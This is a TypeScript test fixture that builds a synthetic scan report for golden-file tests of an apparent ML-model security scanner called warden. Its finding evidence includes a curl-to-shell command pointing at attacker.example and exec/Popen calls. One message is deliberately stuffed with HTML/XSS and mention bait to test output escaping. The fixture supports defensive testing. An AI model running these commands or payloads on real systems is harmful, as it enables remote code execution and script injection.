import type { Finding } from '../../src/core/finding.js';
import { findingOf, type Rule, ref } from '../../src/core/rule.js';
import type { SuppressedFinding } from '../../src/core/suppressed.js';
import type { ScanReport, TargetResult } from '../../src/core/target.js';
import type { ReportInput } from '../../src/report/types.js';
import { ENGINE_RULES } from '../../src/scan/engine-rules.js';

/**
 * A fixed, synthetic scan for golden-file tests: every status, nested archive members, offsets and
 * lines, an engine finding of each kind, and one message carrying Markdown/HTML/mention bait.
 * The pickle and code rules are stand-ins so format rule edits do not churn these golden files; the
 * engine rules are the real ones (editing their text means regenerating with UPDATE_GOLDEN=1).
 */
export const SAMPLE_RULES: readonly Rule[] = [
  {
    id: 'pickle/unsafe-global',
    title: 'Pickle imports a dangerous callable',
    severity: 'critical',
    description: 'The pickle imports a callable that runs commands or code when the file is loaded.',
    remediation: 'Do not load the file. Convert the model to safetensors.',
    references: [ref.atlas('AML.T0011.000'), ref.owaspMl('ML06:2023'), ref.cwe(502)],
  },
  {
    id: 'pickle/unknown-global',
    title: 'Pickle imports an unknown global',
    severity: 'medium',
    description: 'The pickle imports a global that is neither known to be safe nor known to be dangerous.',
    remediation: 'Check the named callable before loading the file.',
    references: [ref.cwe(502)],
  },
  {
    id: 'code/torch-load-unsafe',
    title: 'torch.load without weights_only=True',
    severity: 'high',
    description: 'torch.load unpickles arbitrary objects unless weights_only=True.',
    remediation: 'Pass weights_only=True.',
    references: [ref.owaspLlm('LLM03:2025'), ref.cwe(502)],
  },
  ENGINE_RULES['scan/parse-error'],
  ENGINE_RULES['scan/limit-exceeded'],
  ENGINE_RULES['scan/too-large'],
];

const [unsafe, unknown, torchLoad] = SAMPLE_RULES as [Rule, Rule, Rule];

export const SAMPLE_TARGETS: readonly TargetResult[] = [
  { path: 'models/evil.pkl', format: 'pickle', status: 'ok', sizeBytes: 180, bytesRead: 180, durationMs: 1.5 },
  {
    path: 'models/model.pt',
    format: 'pytorch/zip',
    status: 'partial',
    error: { code: 'limit_exceeded', message: 'more than 4 members; the rest were not scanned' },
    sizeBytes: 4_294_967_296,
    bytesRead: 65_536,
    durationMs: 12.25,
  },
  {
    path: 'models/model.pt',
    member: 'archive/data.pkl',
    format: 'pickle',
    status: 'ok',
    sizeBytes: 2048,
    bytesRead: 2048,
  },
  {
    path: 'models/broken.pt',
    format: 'pytorch/zip',
    status: 'error',
    error: { code: 'truncated', message: 'central directory ends past the end of the file', offset: 1024 },
    sizeBytes: 1100,
    bytesRead: 1100,
  },
  {
    path: 'models/huge.bin',
    format: 'unknown',
    status: 'skipped',
    error: { code: 'too_large', message: 'file is 9000000000 bytes, over --max-file-size 1000000000; not scanned' },
    sizeBytes: 9_000_000_000,
    bytesRead: 0,
  },
  {
    path: 'notes/readme.txt',
    format: 'unknown',
    status: 'skipped',
    error: { code: 'unknown_format', message: 'no scanner recognised this content' },
    sizeBytes: 300,
    bytesRead: 300,
  },
  { path: 'bundle.tar', format: 'tar', status: 'ok', sizeBytes: 10_240, bytesRead: 10_240 },
  { path: 'bundle.tar', member: 'inner.zip', format: 'zip', status: 'ok', sizeBytes: 4096, bytesRead: 4096 },
  {
    path: 'bundle.tar',
    member: 'inner.zip!data.pkl',
    format: 'pickle',
    status: 'ok',
    sizeBytes: 512,
    bytesRead: 512,
  },
  { path: 'src/train.py', format: 'python', status: 'ok', sizeBytes: 900, bytesRead: 900 },
];

// Deliberately not in report order: reporters must sort.
export const SAMPLE_FINDINGS: readonly Finding[] = [
  findingOf(torchLoad, {
    path: 'src/train.py',
    line: 12,
    message: 'torch.load(path) is called without weights_only=True',
    evidence: 'model = torch.load(path)',
    scanner: 'python',
  }),
  findingOf(unsafe, {
    path: 'models/evil.pkl',
    offset: 120,
    message: 'A second pickle after STOP imports builtins.exec',
    evidence: 'builtins.exec',
    scanner: 'pickle',
  }),
  findingOf(unsafe, {
    path: 'models/evil.pkl',
    offset: 42,
    message: 'Imports os.system and calls it at load time',
    evidence: "os.system('curl http://attacker.example/x | sh')",
    scanner: 'pickle',
  }),
  findingOf(unknown, {
    path: 'models/model.pt',
    member: 'archive/data.pkl',
    offset: 7,
    message: 'Imports mylib.CustomLayer',
    evidence: 'mylib.CustomLayer',
    scanner: 'pickle',
  }),
  findingOf(ENGINE_RULES['scan/limit-exceeded'], {
    path: 'models/model.pt',
    message: 'more than 4 members; the rest were not scanned',
    scanner: 'engine',
  }),
  findingOf(ENGINE_RULES['scan/parse-error'], {
    path: 'models/broken.pt',
    offset: 1024,
    message: 'central directory ends past the end of the file',
    scanner: 'engine',
  }),
  findingOf(ENGINE_RULES['scan/too-large'], {
    path: 'models/huge.bin',
    message: 'file is 9000000000 bytes, over --max-file-size 1000000000; not scanned',
    scanner: 'engine',
  }),
  findingOf(unsafe, {
    path: 'bundle.tar',
    member: 'inner.zip!data.pkl',
    offset: 3,
    severity: 'high',
    message: 'Imports subprocess.Popen | cc @security-team <img src=x onerror=alert(1)> [click](http://x.example)',
    evidence: 'subprocess.Popen(`id`)',
    scanner: 'pickle',
  }),
];

/** A rule that only suppressed findings refer to: SARIF must still describe it. */
export const PII_RULE: Rule = {
  id: 'data/pii',
  title: 'Personal data in a dataset',
  severity: 'medium',
  description: 'A column or field holds email addresses.',
  remediation: 'Remove or mask the column before training.',
  references: [ref.cwe(359)],
};

// What warden.yaml set aside: a time-boxed suppression and a standing PII-allowed column.
export const SAMPLE_SUPPRESSED: readonly SuppressedFinding[] = [
  {
    finding: findingOf(PII_RULE, {
      path: 'data/users.csv',
      line: 2,
      message: 'Column "contact" holds email addresses (40 of 40 rows)',
      evidence: 'j***@example.com',
      scanner: 'data',
    }),
    reason: 'data.pii_allowed_columns: contact',
    expires: 'never',
  },
  {
    finding: findingOf(torchLoad, {
      path: 'src/eval.py',
      line: 3,
      message: 'torch.load(path) is called without weights_only=True',
      evidence: 'ckpt = torch.load(path)',
      scanner: 'python',
    }),
    reason: 'loads checkpoints we trained ourselves; fix tracked in #123',
    expires: '2026-06-30',
  },
];

export const SAMPLE_REPORT: ScanReport = {
  targets: SAMPLE_TARGETS,
  findings: SAMPLE_FINDINGS,
  startedAt: '2026-01-02T03:04:05.000Z',
  durationMs: 1234.5,
};

export const SAMPLE_INPUT: ReportInput = {
  report: SAMPLE_REPORT,
  tool: { name: 'warden', version: '0.0.0-test' },
  rules: [...SAMPLE_RULES, PII_RULE],
  command: 'warden scan models bundle.tar src notes',
  suppressed: SAMPLE_SUPPRESSED,
};

export const EMPTY_INPUT: ReportInput = {
  report: { targets: [], findings: [], startedAt: '2026-01-02T03:04:05.000Z', durationMs: 0 },
  tool: { name: 'warden', version: '0.0.0-test' },
  rules: SAMPLE_RULES,
};
